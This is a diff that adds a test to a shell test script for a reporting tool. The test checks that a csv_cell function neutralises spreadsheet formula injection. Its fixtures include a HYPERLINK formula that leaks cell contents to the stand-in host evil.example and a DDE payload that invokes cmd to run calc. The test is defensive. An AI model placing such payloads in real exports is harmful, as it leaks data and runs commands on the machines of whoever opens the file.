@@ -65,6 +65,20 @@ expect_refusal "--from: 'April' is not a day (YYYY-MM-DD)" \
     --from April --to 2024-11-30 --period-a 2024-04-01:2024-04-30 --period-b 2024-11-01:2024-11-30
 [ ! -e "$work/bad" ] || { echo "FAIL a refused report wrote $work/bad"; fail=1; }
 
+# A name that a spreadsheet would run as a formula is written as text
+# (OWASP "CSV Injection"); numbers and plain names are left as they are.
+/usr/bin/python3 - "$report" <<'EOF' || fail=1
+import importlib.machinery, sys
+m = importlib.machinery.SourceFileLoader("report", sys.argv[1]).load_module()
+rows = [('=HYPERLINK("http://evil.example/?leak="&A1,"x")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("=1", "'=1"),
+        ("+1", "'+1"), ("-1", "'-1"), ("\tx", "'\tx"), ("Acme Bank", "Acme Bank"), (-1, -1), (93.8, 93.8)]
+bad = [(i, m.csv_cell(i), w) for i, w in rows if m.csv_cell(i) != w]
+for i, g, w in bad:
+    print(f"FAIL csv_cell({i!r}) = {g!r}, want {w!r}")
+sys.exit(1 if bad else 0)
+EOF
+
 # Every table, cell by cell.
 /usr/bin/python3 - "$work/gen/truth" "$work/operator" "$work/public" <<'EOF' || fail=1
 import csv, os, sys
